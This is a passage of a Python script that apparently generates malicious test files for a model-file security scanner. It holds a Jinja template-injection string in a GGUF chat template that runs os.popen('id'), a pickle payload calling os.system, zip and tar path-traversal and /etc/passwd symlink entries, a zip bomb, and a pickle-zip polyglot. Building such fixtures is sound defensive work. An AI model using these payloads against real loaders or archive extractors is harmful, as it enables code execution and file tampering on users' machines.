    evil = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"
    kv2 = dict(kv)
    kv2['tokenizer.chat_template'] = (8, evil)
    mal('gguf-jinja-ssti.gguf', gguf(kv2, t))
    write(os.path.join(E, 'gguf-truncated.gguf'), gguf(kv, t)[:-16])


# ---------------------------------------------------------------- archives
def archive_files():
    payload = call4('os', 'system', 'id')
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('../../evil.pkl', b'x')
        z.writestr('ok.txt', b'hello')
    mal('zip-path-traversal.zip', out.getvalue())
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        info = zipfile.ZipInfo('link')
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        z.writestr(info, '/etc/passwd')
    mal('zip-symlink.zip', out.getvalue())
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('zeros.bin', b'\x00' * (64 * 1024 * 1024))
    mal('zip-bomb.zip', out.getvalue())
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, 'w') as z:
        z.writestr('data.pkl', payload)
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('inner.zip', inner.getvalue())
    mal('zip-nested-payload.zip', out.getvalue())
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('data.pkl', PROTO2 + b'}.')
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter('ignore')
            z.writestr('data.pkl', payload)
    mal('zip-duplicate-names.zip', out.getvalue())
    # pickle + zip polyglot: a payload pickle with a zip appended
    mal('polyglot-pickle-zip.pt', payload + inner.getvalue())
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo('../escape.txt')
        info.size = 2
        t.addfile(info, io.BytesIO(b'hi'))
        link = tarfile.TarInfo('passwd')
        link.type = tarfile.SYMTYPE
        link.linkname = '/etc/passwd'
        t.addfile(link)
    mal('tar-traversal-symlink.tar', out.getvalue())
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w:gz', format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo('model/data.pkl')
        info.size = len(payload)
        t.addfile(info, io.BytesIO(payload))
    mal('tar-gz-payload.tar.gz', out.getvalue())
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for name in ('weights.safetensors', 'config.json'):
            data = open(os.path.join(B, 'model.safetensors'), 'rb').read() if name.endswith('safetensors') else b'{"a": 1}'
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    write(os.path.join(B, 'bundle.tar'), out.getvalue())
    write(os.path.join(M, 'elf-binary.bin'), b'\x7fELF\x02\x01\x01' + b'\x00' * 57)


def main():
    for d in (B, M, E, S, os.path.join(ROOT, 'other')):
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    malicious_pickles()
    write_error_files()
    safetensors_files()
    value_files()
    gguf_files()
    tfjs_files()
    tf_files()
    numpy_files()
    keras_files()
    onnx_files()
    torch_files()
    torch_tar_files()
    archive_files()
    n = sum(len(f) for _, _, f in os.walk(ROOT))
    print(f'wrote {n} files under {ROOT}')


if __name__ == '__main__':
    sys.exit(main())
